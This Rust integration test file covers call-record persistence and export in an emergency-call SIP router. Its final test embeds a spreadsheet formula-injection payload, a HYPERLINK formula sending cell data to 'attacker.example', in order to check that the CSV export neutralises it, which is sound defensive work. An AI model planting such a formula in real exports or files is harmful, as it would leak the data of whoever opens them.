//! Call records: SIPp calls (answered, cancelled, failed over) through the
//! real binary each leave one correct record in the export, a restart
//! (SIGTERM, then a start on the same database) between calls loses none,
//! calls still up at shutdown are written as `interrupted`, calls up when
//! the router is killed (SIGKILL) are in the database as `open` and become
//! `interrupted` after a restart, and no CSV cell can start a formula.

mod adminhttp;
mod common;

use std::time::Duration;

use serde_json::{json, Value};

use adminhttp::{emergency_config, tokens, Api, Caller, Db, Tokens, Trunk};
use common::{uac, Answer, ClosedTcp, RawTrunk, Router, Trunks, UacBackground, Uas};

const CAP: &str = "+14155550177";

fn sigterm(router: &mut Router) {
    let ok = std::process::Command::new("kill")
        .args(["-TERM", &router.pid().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok);
    assert_eq!(
        router.wait_exit(Duration::from_secs(30)),
        Some(Some(0)),
        "{}",
        router.log()
    );
}

fn upload(api: Api, t: &Tokens) {
    let r = api.send_json(
        "POST",
        "/v1/tenants/acme/numbers",
        &t.operator,
        &json!([{"number": CAP, "country": "US", "common_area_phone": true,
                 "reg_A1": "CA", "reg_A3": "San Francisco", "reg_RD": "Dr Carlton B Goodlett",
                 "reg_STS": "Pl", "reg_HNO": "1", "reg_PC": "94102"}]),
    );
    assert_eq!(r.status, 200, "{r}");
}

fn export(api: Api, token: &str, query: &str) -> Vec<Value> {
    let r = api.get(&format!("/v1/records{query}"), token);
    assert_eq!(r.status, 200, "{r}");
    assert_eq!(
        r.header("content-type").as_deref(),
        Some("application/json")
    );
    r.json().as_array().unwrap().clone()
}

fn calls_survive_a_restart(db: Db) {
    common::require_sipp();
    let t = tokens();
    // The PSAP trunk is three SIPp runs in turn, the screening trunk one
    // after the restart: their ports are the test's from the start.
    let (psap, scr) = (ClosedTcp::reserve(), ClosedTcp::reserve());
    let trunks = Trunks::new().with_psap(psap.port).with_screening(scr.port);
    let cfg = emergency_config(&trunks, &db, &t);
    let mut router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    upload(api, &t);

    // Answered by the PSAP of the registered address.
    let uas = Uas::start_on(&psap, "uas.xml", &[], 1);
    let r = uac("uac.xml", &[], router.port, "911", CAP, 1, 1, false);
    assert_eq!((r.successful, r.failed), (1, 0), "{r:?}");
    assert_eq!(uas.wait(Duration::from_secs(10)), Some(0));

    // A clean restart on the same database.
    sigterm(&mut router);
    let router = Router::start(&cfg, &[]);
    let api = Api::of(&router);

    // Cancelled while ringing.
    let uas = Uas::start_on(&psap, "uas_ring.xml", &[], 1);
    let r = uac("uac_cancel.xml", &[], router.port, "911", CAP, 1, 1, false);
    assert_eq!((r.successful, r.failed), (1, 0), "{r:?}");
    assert_eq!(uas.wait(Duration::from_secs(10)), Some(0));

    // The PSAP fails; the screening center answers.
    let failing = Uas::start_on(&psap, "uas_fail.xml", &[("@CODE@", "503")], 1);
    let screening = Uas::start_on(&scr, "uas.xml", &[], 1);
    let r = uac("uac.xml", &[], router.port, "911", CAP, 1, 1, false);
    assert_eq!((r.successful, r.failed), (1, 0), "{r:?}");
    assert_eq!(failing.wait(Duration::from_secs(10)), Some(0));
    assert_eq!(screening.wait(Duration::from_secs(10)), Some(0));

    // Records are written off the call path: wait until all three are in,
    // over (each is in from its routing on, `open` until its call ends).
    let mut recs = Vec::new();
    for _ in 0..100 {
        recs = export(api, &t.operator, "");
        if recs.len() >= 3 && recs.iter().all(|r| r["outcome"] != "open") {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(recs.len(), 3, "{recs:#?}");
    let outcomes: Vec<&str> = recs
        .iter()
        .map(|r| r["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(outcomes, ["answered", "cancelled", "answered"]);
    for r in &recs {
        assert_eq!(r["caller_number"], CAP);
        assert_eq!(r["dialed"], "911");
        assert_eq!(r["service"], "urn:service:sos");
        assert_eq!(r["tenant"], "acme");
        assert_eq!(r["kind"], "emergency");
        assert_eq!(r["location_source"], "registered");
        assert_eq!(r["registered_address"]["civic"]["A3"], "San Francisco");
        assert_eq!(r["transport"], "udp");
        assert_eq!(r["source_ip"], "127.0.0.1");
        assert!(r["source_port"].as_u64().unwrap() > 0);
        assert!(r["caller_uri"]
            .as_str()
            .unwrap()
            .starts_with(&format!("sip:{CAP}@")));
        assert!(r["call_id"].as_str().is_some_and(|c| !c.is_empty()));
        assert!(r["invite_time"].as_str().unwrap().ends_with('Z'));
        let invite = r["invite_ms"].as_i64().unwrap();
        let end = r["end_ms"].as_i64().unwrap();
        assert!(end >= invite, "{r}");
    }
    let ids: std::collections::HashSet<&str> =
        recs.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 3);

    let answered = &recs[0];
    assert_eq!(answered["final_status"], 200);
    assert_eq!(answered["route"], "psap");
    assert_eq!(answered["trunk"], "psap");
    assert!(answered["psap_id"].as_str().is_some());
    let (a, e) = (
        answered["answer_ms"].as_i64().unwrap(),
        answered["end_ms"].as_i64().unwrap(),
    );
    assert!(a >= answered["invite_ms"].as_i64().unwrap() && e >= a);
    assert_eq!(answered["duration_ms"].as_i64(), Some(e - a));
    assert_eq!(answered["attempts"].as_array().unwrap().len(), 1);
    assert_eq!(answered["attempts"][0]["outcome"], "answered");

    let cancelled = &recs[1];
    assert_eq!(cancelled["final_status"], 487);
    assert_eq!(cancelled["answer_ms"], Value::Null);
    assert_eq!(cancelled["duration_ms"], Value::Null);
    assert_eq!(cancelled["attempts"][0]["trunk"], "psap");
    assert_eq!(cancelled["attempts"][0]["outcome"], "cancelled");

    let failover = &recs[2];
    assert_eq!(failover["final_status"], 200);
    assert_eq!(failover["trunk"], "screening");
    let attempts = failover["attempts"].as_array().unwrap();
    assert_eq!(attempts.len(), 2, "{failover}");
    assert_eq!(
        (attempts[0]["trunk"].clone(), attempts[0]["status"].clone()),
        (json!("psap"), json!(503))
    );
    assert_eq!(attempts[1]["trunk"], "screening");
    assert_eq!(attempts[1]["outcome"], "answered");

    // The same records as CSV, one line each.
    let r = api.get("/v1/records?format=csv", &t.operator);
    assert_eq!(r.status, 200, "{r}");
    assert!(r.header("content-type").unwrap().starts_with("text/csv"));
    let mut reader = csv::Reader::from_reader(r.body.as_slice());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 3);
    let outcomes: Vec<&str> = rows.iter().map(|r| &r[col("outcome")]).collect();
    assert_eq!(outcomes, ["answered", "cancelled", "answered"]);
    // E.164 numbers begin with `+`: quoted, as every cell that could be
    // read as a formula.
    assert_eq!(&rows[2][col("caller_number")], format!("'{CAP}"));
    let attempts: Value = serde_json::from_str(&rows[2][col("attempts")]).unwrap();
    assert_eq!(attempts.as_array().unwrap().len(), 2);
    assert_eq!(
        &rows[0][col("invite_time")],
        recs[0]["invite_time"].as_str().unwrap()
    );

    // Filters: by time (RFC 3339), by tenant; a tenant admin sees its own.
    let first = recs[0]["invite_ms"].as_i64().unwrap();
    let after_first = sosrouter::cdr::rfc3339(first + 1);
    let later = export(api, &t.operator, &format!("?from={after_first}"));
    assert_eq!(later.len(), 2);
    let until = export(api, &t.operator, &format!("?to={after_first}"));
    assert_eq!(until.len(), 1);
    assert_eq!(export(api, &t.acme, "").len(), 3);
    assert!(export(api, &t.globex, "").is_empty());
    assert!(export(api, &t.operator, "?tenant=globex").is_empty());
    assert_eq!(api.get("/v1/records?tenant=acme", &t.globex).status, 403);
    assert_eq!(api.get("/v1/records?format=xml", &t.operator).status, 400);
    assert_eq!(api.get("/v1/records?from=monday", &t.operator).status, 400);
    assert_eq!(api.call("GET", "/v1/records", None, None, b"").status, 401);
}

#[test]
fn sqlite_calls_survive_a_restart() {
    calls_survive_a_restart(Db::sqlite());
}

#[test]
fn postgres_calls_survive_a_restart() {
    if let Some(db) = Db::postgres("postgres_calls_survive_a_restart") {
        calls_survive_a_restart(db);
    }
}

#[test]
fn calls_up_at_shutdown_are_written_as_interrupted() {
    let db = Db::sqlite();
    let t = tokens();
    // The PSAP answers (and the caller never hangs up); the test trunk
    // never answers.
    let psap = RawTrunk::start(Answer::Ok);
    let scr = Trunk::new();
    let test = Trunk::new();
    let trunks = Trunks::new()
        .with_psap(psap.port)
        .with_screening(scr.port)
        .with_test(test.port);
    // No time for calls in progress to finish.
    let cfg = emergency_config(&trunks, &db, &t).replace("[sip]\n", "[sip]\ndrain_timeout_s = 0\n");
    let mut router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    upload(api, &t);
    let caller = Caller::new();
    caller.invite(router.port, CAP, "answered-at-shutdown");
    psap.next("INVITE", Duration::from_secs(10))
        .expect("the PSAP got no INVITE");
    caller.invite_with(router.port, "933", CAP, "ringing-at-shutdown", "", "");
    test.invite("ringing-at-shutdown", Duration::from_secs(10), &router);
    // Both are in the database before the shutdown, one answered.
    for _ in 0..100 {
        let recs = export(api, &t.operator, "");
        if recs.len() == 2 && recs[0]["final_status"] == 200 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    sigterm(&mut router);
    let router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    let recs = export(api, &t.operator, "");
    assert_eq!(recs.len(), 2, "{recs:#?}");
    let answered = &recs[0];
    assert_eq!(answered["call_id"], "answered-at-shutdown");
    assert_eq!(answered["outcome"], "interrupted", "{answered:#}");
    assert_eq!(answered["final_status"], 200);
    assert!(answered["answer_ms"].as_i64().is_some(), "{answered:#}");
    assert_eq!(answered["end_ms"], Value::Null);
    assert_eq!(answered["duration_ms"], Value::Null);
    assert_eq!(answered["caller_number"], CAP);
    let ringing = &recs[1];
    assert_eq!(ringing["call_id"], "ringing-at-shutdown");
    assert_eq!(ringing["kind"], "test");
    assert_eq!(ringing["outcome"], "interrupted", "{ringing:#}");
    assert_eq!(ringing["final_status"], Value::Null);
    assert_eq!(ringing["answer_ms"], Value::Null);
    assert_eq!(ringing["end_ms"], Value::Null);
}

/// Calls answered and still up when the router is killed.
const HELD: usize = 20;

fn records_survive_sigkill(db: Db) {
    common::require_sipp();
    let t = tokens();
    let uas = Uas::start("uas.xml", &[], false, HELD as u32 + 1);
    let trunks = Trunks::new().with_psap(uas.port);
    let cfg = emergency_config(&trunks, &db, &t);
    let mut router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    upload(api, &t);
    // One call over before the crash.
    let r = uac("uac.xml", &[], router.port, "911", CAP, 1, 1, false);
    assert_eq!((r.successful, r.failed), (1, 0), "{r:?}");
    // Calls that stay up for two minutes.
    let callers = UacBackground::start(
        "uac_hold.xml",
        &[("@HOLD_MS@", "120000")],
        router.port,
        "911",
        CAP,
        HELD as u32,
        20,
    );
    // Every call answered, as the router's records say (without the
    // records, the test goes on after the wait and counts what is lost).
    let answered = |recs: &[Value]| recs.iter().filter(|r| r["final_status"] == 200).count();
    let end = std::time::Instant::now() + Duration::from_secs(20);
    while std::time::Instant::now() < end && answered(&export(api, &t.operator, "")) < HELD + 1 {
        std::thread::sleep(Duration::from_millis(100));
    }
    let killed = std::process::Command::new("kill")
        .args(["-KILL", &router.pid().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(killed);
    assert_eq!(router.wait_exit(Duration::from_secs(10)), Some(None));

    // In the database: the call that ended, and every call still up as
    // `open`, answered, with no end.
    let stored = db.stored_records();
    let open: Vec<&Value> = stored
        .iter()
        .filter(|(o, _)| o == "open")
        .map(|(_, r)| r)
        .collect();
    assert_eq!(
        open.len(),
        HELD,
        "records of calls up at SIGKILL lost: {} of {HELD}; stored: {stored:#?}",
        HELD - open.len().min(HELD)
    );
    for r in &open {
        assert_eq!(r["outcome"], "open");
        assert_eq!(r["final_status"], 200, "{r:#}");
        assert!(r["answer_ms"].as_i64().is_some(), "{r:#}");
        assert_eq!(r["end_ms"], Value::Null);
        assert_eq!(r["caller_number"], CAP);
        assert_eq!(r["attempts"][0]["outcome"], "answered");
    }
    let ended: Vec<&(String, Value)> = stored.iter().filter(|(o, _)| o == "answered").collect();
    assert_eq!(ended.len(), 1, "{stored:#?}");

    // A start on the same database closes them as `interrupted`, and says
    // how many.
    let router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    let mut recs = Vec::new();
    let end = std::time::Instant::now() + Duration::from_secs(60);
    while std::time::Instant::now() < end {
        recs = export(api, &t.operator, "");
        if recs
            .iter()
            .filter(|r| r["outcome"] == "interrupted")
            .count()
            == HELD
        {
            break;
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    let outcomes: Vec<&str> = recs
        .iter()
        .map(|r| r["outcome"].as_str().unwrap())
        .collect();
    let mut want = vec!["answered"];
    want.extend(std::iter::repeat_n("interrupted", HELD));
    assert_eq!(outcomes, want, "{}", router.log());
    for r in &recs[1..] {
        assert_eq!(r["final_status"], 200, "{r:#}");
        assert!(r["answer_ms"].as_i64().is_some(), "{r:#}");
        assert_eq!(r["end_ms"], Value::Null);
    }
    assert!(recs[0]["end_ms"].as_i64().is_some());
    // Logged once the records are closed; lines below `warn` are written
    // out a moment later.
    router.wait_log(
        "left open by a router that stopped",
        1,
        Duration::from_secs(10),
    );
    let line = router
        .log()
        .lines()
        .find(|l| l.contains("left open by a router that stopped"))
        .map(str::to_string)
        .unwrap_or_else(|| panic!("no log line on the records closed: {}", router.log()));
    assert!(line.contains(" INFO "), "{line}");
    assert!(line.contains(&format!("records={HELD}")), "{line}");
    drop(callers);
    drop(uas);
}

#[test]
fn sqlite_records_survive_sigkill() {
    records_survive_sigkill(Db::sqlite());
}

#[test]
fn postgres_records_survive_sigkill() {
    if let Some(db) = Db::postgres("postgres_records_survive_sigkill") {
        records_survive_sigkill(db);
    }
}

/// Spreadsheet formulas a caller may put in what the router records.
const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"help\")";

#[test]
fn csv_cells_never_start_a_formula() {
    let db = Db::sqlite();
    let t = tokens();
    let refuse = RawTrunk::start(Answer::Code(486));
    let trunks = Trunks::new()
        .with_psap(refuse.port)
        .with_screening(refuse.port)
        .with_test(refuse.port)
        .with_last_resort(refuse.port);
    let cfg = emergency_config(&trunks, &db, &t);
    let router = Router::start(&cfg, &[]);
    let api = Api::of(&router);
    upload(api, &t);
    Caller::new().invite_with(
        router.port,
        "911",
        CAP,
        "csv-formula",
        "-2+3 ",
        &format!("User-Agent: {FORMULA}\r\n"),
    );
    let mut recs = Vec::new();
    for _ in 0..100 {
        recs = export(api, &t.operator, "");
        if recs.len() == 1 && recs[0]["outcome"] != "open" {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(recs.len(), 1, "{recs:#?}");
    // The JSON export keeps the values as received.
    assert_eq!(recs[0]["user_agent"], FORMULA);
    assert!(recs[0]["from"].as_str().unwrap().starts_with("-2+3 <sip:"));

    let r = api.get("/v1/records?format=csv", &t.operator);
    assert_eq!(r.status, 200, "{r}");
    let mut reader = csv::Reader::from_reader(r.body.as_slice());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(&row[col("user_agent")], format!("'{FORMULA}"));
    assert_eq!(
        &row[col("from")],
        format!("'{}", recs[0]["from"].as_str().unwrap())
    );
    // E.164 numbers begin with `+`: quoted as well.
    assert_eq!(&row[col("caller_number")], format!("'{CAP}"));
    for (name, cell) in header.iter().zip(row.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name}: {cell:?}"
        );
    }
}
